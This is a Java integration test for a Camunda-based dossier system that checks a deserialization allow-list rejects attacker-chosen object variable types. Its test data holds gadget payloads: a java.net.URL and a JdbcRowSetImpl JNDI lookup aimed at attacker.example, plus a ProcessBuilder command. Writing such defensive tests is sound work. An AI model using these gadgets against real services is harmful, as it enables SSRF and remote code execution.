package vn.motcua.dossier;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.util.List;
import java.util.Map;

import org.camunda.bpm.engine.RuntimeService;
import org.camunda.bpm.engine.TaskService;
import org.camunda.bpm.engine.task.Task;
import org.camunda.bpm.engine.variable.Variables;
import org.camunda.bpm.engine.variable.value.ObjectValue;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;

/**
 * Object variables of a class the attacker chooses: with deserialization type validation on and Motcua's
 * allow-list, an object variable of {@code java.net.URL} (an SSRF / DNS gadget) or a JNDI gadget class, written
 * through the engine REST API by a clerk, is never instantiated; the routing maps Motcua really stores still are.
 */
@ApiIntegrationTest
class VariableTypeAttackTest extends EngineRestTestSupport {

    @Autowired
    TaskService tasks;
    @Autowired
    RuntimeService runtime;

    @Test
    void shouldNeverInstantiateAnObjectVariableOfAClassOutsideTheAllowList() throws Exception {
        Task task = tasks.createTaskQuery().taskCandidateGroup("motcua-dongxoai").list().get(0);
        for (Map.Entry<String, String> gadget : Map.of(
                "java.net.URL", "\"http://attacker.example/ssrf\"",
                "com.sun.rowset.JdbcRowSetImpl", "{\"dataSourceName\":\"ldap://attacker.example/x\",\"autoCommit\":true}",
                "java.lang.ProcessBuilder", "[\"touch\",\"/tmp/motcua-pwned\"]").entrySet()) {
            String name = "gadget" + Math.abs(gadget.getKey().hashCode());
            String body = "{\"type\":\"Object\",\"value\":" + JSON.writeValueAsString(gadget.getValue())
                    + ",\"valueInfo\":{\"objectTypeName\":\"" + gadget.getKey() + "\",\"serializationDataFormat\":\"application/json\"}}";
            HttpResponse<String> written = send(as("tiepnhan", "/engine-rest/task/" + task.getId() + "/variables/" + name)
                    .header("Content-Type", "application/json").PUT(HttpRequest.BodyPublishers.ofString(body)).build());
            assertThat(written.statusCode()).as("%s: %s", gadget.getKey(), written.body()).isEqualTo(400);
            assertThat(written.body()).contains(gadget.getKey(), "không được phép");
            assertThat(runtime.getVariable(task.getProcessInstanceId(), name)).isNull();
        }
        // the same through a task's completion and the Java API
        assertThatThrownBy(() -> runtime.setVariable(task.getProcessInstanceId(), "gadget",
                Variables.serializedObjectValue("\"http://attacker.example/\"").objectTypeName("java.net.URL")
                        .serializationDataFormat("application/json").create()))
                .hasMessageContaining("java.net.URL");
        assertThatThrownBy(() -> runtime.setVariable(task.getProcessInstanceId(), "gadget",
                Variables.serializedObjectValue("{}").objectTypeName("java.util.HashMap<java.lang.String,javax.naming.InitialContext>")
                        .serializationDataFormat("application/json").create()))
                .hasMessageContaining("javax.naming.InitialContext");
        assertThat(new java.io.File("/tmp/motcua-pwned")).doesNotExist();
    }

    @Test
    void shouldStillReadTheRoutingMapsMotcuaStores() {
        String instance = runtime.createProcessInstanceQuery().variableValueEquals("intakeGroup", "motcua-dongxoai").list().stream()
                .filter(p -> runtime.getVariable(p.getId(), "routing") != null).findFirst().orElseThrow().getId();
        ObjectValue routing = runtime.getVariableTyped(instance, "routing", true);
        assertThat(routing.getValue()).isInstanceOf(Map.class);
        runtime.setVariable(instance, "probe", Variables.objectValue(new java.util.ArrayList<>(List.of("a", "b"))).create());
        assertThat(runtime.getVariable(instance, "probe")).isEqualTo(List.of("a", "b"));
        runtime.removeVariable(instance, "probe");
    }
}
